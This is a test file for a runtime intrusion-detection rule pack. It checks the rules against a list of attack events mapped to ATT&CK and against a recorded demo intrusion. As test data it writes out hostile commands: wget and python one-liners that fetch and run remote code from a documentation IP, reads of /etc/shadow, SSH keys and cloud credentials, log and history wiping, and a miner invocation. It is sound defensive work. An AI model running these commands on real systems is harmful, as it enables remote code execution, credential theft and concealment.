// The workbench's own runtime pack (rules/runtime): it loads strictly, every rule passes its own tests,
// it covers what the "Runtime detection" issue asks for, and it detects the demo intrusion step by step.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Json } from '../../src-shared/secl/index.ts';
import { bundledAttackCatalogue } from './attack.ts';
import { bundledRuntimeRulesDir, loadRulePack } from './rule-pack.ts';
import { expandTestEvent } from './rule-test-events.ts';
import { runRuleTests } from './rule-tests.ts';

const pack = loadRulePack(bundledRuntimeRulesDir, { strict: true });
const attack = bundledAttackCatalogue();

describe('the bundled runtime pack', () => {
  it('loads every rule of every file, strictly', () => {
    expect(pack.errors).toEqual([]);
    const declared = pack.files.flatMap(({ result }) => [...(result?.loaded ?? []), ...(result?.skipped ?? [])]);
    expect(pack.rules).toHaveLength(declared.length);
    expect(pack.files.map(({ file }) => file)).toContain('macros.policy');
  });

  it('has at least 80 rules, each with a test that must match and one that must not', () => {
    console.log(`rules/runtime: ${pack.rules.length} rules in ${pack.files.length} files`);
    expect(pack.rules.length).toBeGreaterThanOrEqual(80);
    for (const rule of pack.rules) {
      expect(rule.tests?.match.length, rule.id).toBeGreaterThan(0);
      expect(rule.tests?.noMatch.length, rule.id).toBeGreaterThan(0);
    }
  });

  it('names every tactic and technique in the bundled ATT&CK catalogue, and a technique that serves the tactic', () => {
    for (const rule of pack.rules) {
      const tactic = rule.tactic as string;
      const technique = rule.technique as string;
      expect(attack.tacticName(tactic), `${rule.id} ${tactic}`).toBeTruthy();
      expect(attack.techniqueName(technique), `${rule.id} ${technique}`).toBeTruthy();
      expect(attack.tacticsOf(technique), rule.id).toContain(tactic);
    }
  });

  it('gives every rule concrete triage steps and a remediation', () => {
    for (const rule of pack.rules) {
      expect(rule.description.length, rule.id).toBeGreaterThan(60);
      expect(rule.triage?.length, rule.id).toBeGreaterThan(0);
      for (const step of rule.triage ?? []) expect(step.length, rule.id).toBeGreaterThan(20);
      expect(rule.remediation?.length, rule.id).toBeGreaterThan(30);
    }
  });

  describe.each(pack.files.filter(({ result }) => (result?.loaded.length ?? 0) > 0).map(({ file }) => file))('%s', (file) => {
    it.each(pack.rules.filter((rule) => rule.file === file).map((rule) => [rule.id, rule] as const))('%s passes its tests', (_id, rule) => {
      const report = runRuleTests({ rules: [rule], errors: [] });
      expect(report.failures).toEqual([]);
      expect(report.tests).toBe((rule.tests?.match.length ?? 0) + (rule.tests?.noMatch.length ?? 0));
    });
  });
});

/** The rules of the pack that match a compact test event. */
function matching(compact: Json): { id: string; tactic: string; technique: string }[] {
  return pack.ruleSet.match(expandTestEvent(compact)).map((rule) => ({ id: rule.id, tactic: rule.tactic as string, technique: rule.technique as string }));
}

const webShell = { parent: { file: { path: '/usr/sbin/nginx' } }, process: { uid: 33 } };
const root = { uid: 0 };

// What the issue lists, each as an attack event that some rule of the right tactic and technique must flag.
const coverage: { what: string; event: Json; tactic: string; technique: string }[] = [
  { what: 'execution: a web server spawns a shell', event: { type: 'exec', exec: { file: { path: '/bin/sh' }, argv: ['-c', 'id'] }, ...webShell }, tactic: 'TA0002', technique: 'T1059' },
  { what: 'execution: a database spawns a shell', event: { type: 'exec', exec: { file: { path: '/bin/sh' }, argv: ['-c', 'id'] }, parent: { file: { path: '/usr/sbin/mysqld' } } }, tactic: 'TA0002', technique: 'T1059' },
  { what: 'execution: a download piped to a shell', event: { type: 'exec', exec: { file: { path: '/bin/sh' }, argv: ['-c', 'wget -qO- http://203.0.113.7/a | sh'] } }, tactic: 'TA0002', technique: 'T1059' },
  { what: 'execution: an interpreter running inline code', event: { type: 'exec', exec: { file: { path: '/usr/bin/python3' }, argv: ['-c', "import os,urllib.request as u;exec(u.urlopen('http://203.0.113.7/p').read())"] } }, tactic: 'TA0002', technique: 'T1059' },
  { what: 'execution: a program run from a memfd', event: { type: 'exec', exec: { file: { path: '/memfd:x (deleted)' } } }, tactic: 'TA0005', technique: 'T1620' },
  { what: 'execution: a program run from /dev/shm', event: { type: 'exec', exec: { file: { path: '/dev/shm/x' } } }, tactic: 'TA0005', technique: 'T1027.011' },
  { what: 'execution: a program run from /tmp by a service', event: { type: 'exec', exec: { file: { path: '/tmp/x' } }, ...webShell }, tactic: 'TA0002', technique: 'T1059' },
  { what: 'persistence: cron', event: { type: 'open', open: { file: { path: '/etc/cron.d/x' }, flags: 577 }, process: { ...root, file: { path: '/usr/bin/bash' } } }, tactic: 'TA0003', technique: 'T1053.003' },
  { what: 'persistence: systemd units', event: { type: 'open', open: { file: { path: '/etc/systemd/system/x.service' }, flags: 577 }, process: { ...root, file: { path: '/usr/bin/bash' } } }, tactic: 'TA0003', technique: 'T1543.002' },
  { what: 'persistence: shell rc files', event: { type: 'open', open: { file: { path: '/root/.bashrc' }, flags: 1089 }, process: { ...root, file: { path: '/usr/bin/bash' }, tty_name: '' } }, tactic: 'TA0003', technique: 'T1546.004' },
  { what: 'persistence: authorized_keys', event: { type: 'open', open: { file: { path: '/root/.ssh/authorized_keys' }, flags: 1089 }, process: { ...root, file: { path: '/usr/bin/tee' } } }, tactic: 'TA0003', technique: 'T1098.004' },
  { what: 'persistence: ld.so.preload', event: { type: 'open', open: { file: { path: '/etc/ld.so.preload' }, flags: 577 }, process: { ...root, file: { path: '/usr/bin/bash' } } }, tactic: 'TA0003', technique: 'T1574.006' },
  { what: 'persistence: PAM', event: { type: 'open', open: { file: { path: '/etc/pam.d/sshd' }, flags: 577 }, process: { ...root, file: { path: '/usr/bin/bash' } } }, tactic: 'TA0003', technique: 'T1556.003' },
  { what: 'persistence: new users', event: { type: 'exec', exec: { file: { path: '/usr/sbin/useradd' }, argv: ['-m', 'x'] }, process: root }, tactic: 'TA0003', technique: 'T1136.001' },
  { what: 'privilege escalation: a setuid file created', event: { type: 'chmod', chmod: { file: { path: '/tmp/sh', destination: { mode: 0o4755 } } }, process: { ...root, file: { path: '/usr/bin/chmod' } } }, tactic: 'TA0004', technique: 'T1548.001' },
  { what: 'privilege escalation: a setuid file run', event: { type: 'exec', exec: { file: { path: '/tmp/sh' } }, process: { uid: 1000, euid: 0 } }, tactic: 'TA0004', technique: 'T1548.001' },
  { what: 'privilege escalation: sudoers changed', event: { type: 'open', open: { file: { path: '/etc/sudoers.d/x' }, flags: 577 }, process: { ...root, file: { path: '/usr/bin/bash' } } }, tactic: 'TA0004', technique: 'T1548.003' },
  { what: 'privilege escalation: capset', event: { type: 'capset', capset: { cap_effective: 2 ** 21, cap_permitted: 2 ** 21 }, process: { uid: 1000, file: { path: '/tmp/x' } } }, tactic: 'TA0004', technique: 'T1548' },
  { what: 'privilege escalation: an unexpected transition to uid 0', event: { type: 'exec', exec: { file: { path: '/bin/sh' } }, process: root, parent: { uid: 1000, file: { path: '/tmp/exploit' } } }, tactic: 'TA0004', technique: 'T1068' },
  { what: 'credential access: /etc/shadow', event: { type: 'open', open: { file: { path: '/etc/shadow' }, flags: 0 }, process: { ...root, file: { path: '/usr/bin/cp' } } }, tactic: 'TA0006', technique: 'T1003.008' },
  { what: 'credential access: SSH keys', event: { type: 'open', open: { file: { path: '/root/.ssh/id_rsa' }, flags: 0 }, process: { ...root, file: { path: '/usr/bin/base64' } } }, tactic: 'TA0006', technique: 'T1552.004' },
  { what: 'credential access: cloud credential files', event: { type: 'open', open: { file: { path: '/root/.aws/credentials' }, flags: 0 }, process: { ...root, file: { path: '/usr/bin/cat' } } }, tactic: 'TA0006', technique: 'T1552.001' },
  { what: 'credential access: /proc/*/mem', event: { type: 'open', open: { file: { path: '/proc/612/mem' }, flags: 0 }, process: { ...root, file: { path: '/tmp/dump' } } }, tactic: 'TA0006', technique: 'T1003.007' },
  { what: 'defense evasion: history cleared', event: { type: 'unlink', unlink: { file: { path: '/root/.bash_history' } }, process: { ...root, file: { path: '/usr/bin/rm' } } }, tactic: 'TA0005', technique: 'T1070.003' },
  { what: 'defense evasion: history linked to /dev/null', event: { type: 'symlink', symlink: { file: { path: '/dev/null', destination: { path: '/root/.bash_history' } } }, process: { ...root, file: { path: '/usr/bin/ln' } } }, tactic: 'TA0005', technique: 'T1562.003' },
  { what: 'defense evasion: logs truncated', event: { type: 'truncate', truncate: { file: { path: '/var/log/auth.log' } }, process: { ...root, file: { path: '/usr/bin/truncate' } } }, tactic: 'TA0005', technique: 'T1070.002' },
  { what: 'defense evasion: logs deleted', event: { type: 'unlink', unlink: { file: { path: '/var/log/syslog' } }, process: { ...root, file: { path: '/usr/bin/rm' } } }, tactic: 'TA0005', technique: 'T1070.002' },
  { what: 'defense evasion: timestomping', event: { type: 'exec', exec: { file: { path: '/usr/bin/touch' }, argv: ['-r', '/usr/bin/ls', '/usr/bin/x'] }, process: root }, tactic: 'TA0005', technique: 'T1070.006' },
  { what: 'defense evasion: a masquerading process name', event: { type: 'prctl', prctl: { option: 15, new_name: '[kworker/1:0]' }, process: { file: { path: '/tmp/x' } } }, tactic: 'TA0005', technique: 'T1036.004' },
  { what: 'defense evasion: a kernel module load', event: { type: 'load_module', load_module: { name: 'x', file: { path: '/tmp/x.ko' } }, process: { ...root, file: { path: '/usr/bin/kmod' } } }, tactic: 'TA0005', technique: 'T1014' },
  { what: 'defense evasion: a BPF program load', event: { type: 'bpf', bpf: { cmd: 5 }, process: { ...root, file: { path: '/opt/x/loader' } } }, tactic: 'TA0005', technique: 'T1014' },
  { what: 'defense evasion: ptrace injection', event: { type: 'ptrace', ptrace: { request: 4, tracee: { pid: 1 } }, process: { ...root, file: { path: '/tmp/x' } } }, tactic: 'TA0005', technique: 'T1055.008' },
  { what: 'discovery: a burst of commands under a service', event: { type: 'exec', exec: { file: { path: '/usr/bin/whoami' } }, process: { uid: 33 }, parent: { file: { path: '/bin/sh' } }, ancestors: [{ file: { path: '/usr/sbin/nginx' } }] }, tactic: 'TA0007', technique: 'T1082' },
  { what: 'lateral movement: outbound SSH', event: { type: 'connect', connect: { addr: { ip: '10.0.0.9', port: 22, family: 'AF_INET' } }, process: { uid: 33, file: { path: '/usr/bin/ssh' } }, parent: { file: { path: '/bin/sh' } }, ancestors: [{ file: { path: '/usr/sbin/nginx' } }] }, tactic: 'TA0008', technique: 'T1021.004' },
  { what: 'lateral movement: scanners', event: { type: 'exec', exec: { file: { path: '/usr/bin/masscan' }, argv: ['10.0.0.0/8'] } }, tactic: 'TA0007', technique: 'T1046' },
  { what: 'command and control: a shell whose stdio is a socket', event: { type: 'exec', exec: { file: { path: '/bin/bash' }, argv: ['-i'] }, process: { tty_name: '' }, parent: { file: { path: '/usr/bin/python3' } } }, tactic: 'TA0011', technique: 'T1095' },
  { what: 'command and control: a shell making a connection', event: { type: 'connect', connect: { addr: { ip: '203.0.113.50', port: 443, family: 'AF_INET' } }, process: { file: { path: '/bin/bash' } } }, tactic: 'TA0011', technique: 'T1095' },
  { what: 'container escape indicators', event: { type: 'mount', mount: { source: { path: '/dev/nvme0n1p1' }, mountpoint: { path: '/mnt' }, fs_type: 'ext4' }, process: { ...root, file: { path: '/bin/mount' }, container: { id: 'abc123' } } }, tactic: 'TA0004', technique: 'T1611' },
  { what: 'crypto miners', event: { type: 'exec', exec: { file: { path: '/tmp/.k/sysd' }, argv: ['-o', 'stratum+tcp://203.0.113.9:3333'] } }, tactic: 'TA0040', technique: 'T1496' },
];

describe('coverage of the issue’s categories', () => {
  it.each(coverage.map((entry) => [entry.what, entry] as const))('%s', (_what, { event, tactic, technique }) => {
    const hits = matching(event);
    expect(hits.some((hit) => hit.tactic === tactic && (hit.technique === technique || hit.technique.startsWith(`${technique}.`))), JSON.stringify(hits)).toBe(true);
  });

  it('groups discovery matches by their parent process, so a burst becomes one signal', () => {
    const discovery = pack.rules.filter((rule) => rule.tactic === 'TA0007' && rule.id.startsWith('discovery_'));
    expect(discovery.length).toBeGreaterThan(0);
    for (const rule of discovery) expect(rule.groupBy).toEqual(['process.parent.pid']);
  });
});

// ---- the demo case's recorded intrusion -----------------------------------------------------------------

/** Adds process.parent and process.ancestors as ingest does: from the processes the recording has shown so far. */
function withLineage(lines: Json[]): Json[] {
  const known = new Map<number, Json>();
  return lines.map((event) => {
    const process = event['process'] as Json;
    const pid = process['pid'] as number;
    if (event['type'] === 'exec' || !known.has(pid)) {
      const file = process['file'] as Json;
      known.set(pid, { pid, ppid: process['ppid'], uid: process['uid'], comm: process['comm'], file: { path: file['path'], name: file['name'] }, argv: process['argv'], cwd: process['cwd'], created_at: process['created_at'] });
    }
    const ancestors: Json[] = [];
    for (let next = known.get(pid)?.['ppid'] as number | undefined; next && known.has(next) && ancestors.length < 64; next = known.get(next)?.['ppid'] as number | undefined) ancestors.push(known.get(next) as Json);
    return { ...event, process: { ...process, parent: ancestors[0], ancestors } };
  });
}

function recording(host: string): Json[] {
  const path = join(import.meta.dirname, '..', '..', 'resources', 'demo', `${host}.ndjson`);
  const lines = readFileSync(path, 'utf8').split('\n').filter((line) => line.trim() !== '').map((line) => JSON.parse(line) as Json);
  return withLineage(lines.filter((event) => typeof event['process'] === 'object'));
}

describe('the demo intrusion (resources/demo)', () => {
  const detections = (host: string): Map<number, string[]> => new Map(recording(host).map((event) => [event['seq'] as number, pack.ruleSet.match(event).map((rule) => rule.id)] as const).filter(([, ids]) => ids.length > 0));

  it('flags each step of the attack on web-01 as it happened', () => {
    const web = detections('web-01');
    const stepsOf = (id: string): number[] => [...web].filter(([, ids]) => ids.includes(id)).map(([seq]) => seq);
    expect(stepsOf('web_script_written_to_upload_folder')).toEqual([7]); // avatar.php uploaded
    expect(stepsOf('web_server_spawned_shell')).toEqual([9, 18]); // php-fpm runs sh -c
    expect(stepsOf('download_piped_to_shell')).toEqual([18]); // curl … | bash
    expect(stepsOf('download_into_hidden_or_memory_folder')).toEqual([29]); // curl -so /tmp/.x/kworkerd
    expect(stepsOf('temporary_file_made_executable_by_service')).toEqual([35]); // chmod +x
    expect(stepsOf('program_started_with_kernel_thread_name')).toEqual([38]); // argv0 [kworker/0:2]
    expect(stepsOf('connection_to_reverse_shell_port')).toEqual([39]); // 198.51.100.23:4444
    expect(stepsOf('interactive_shell_without_terminal')).toEqual([41]); // bash -i, no tty
    expect(stepsOf('password_hashes_read')).toEqual([56]); // cat /etc/shadow
    expect(stepsOf('cron_file_written')).toEqual([62]); // /etc/cron.d/kworker
    expect(stepsOf('authorized_keys_written')).toEqual([66]); // /root/.ssh/authorized_keys
    expect(stepsOf('ssh_connection_from_service')).toEqual([70]); // ssh to 10.0.2.21
    expect(stepsOf('shell_history_deleted')).toEqual([74]); // .bash_history removed …
    expect(stepsOf('shell_history_hard_linked')).toEqual([75]); // … and linked to /dev/null
  });

  it('raises nothing on db-01, where a backup and an administrator’s psql session ran', () => {
    expect(detections('db-01')).toEqual(new Map());
  });
});
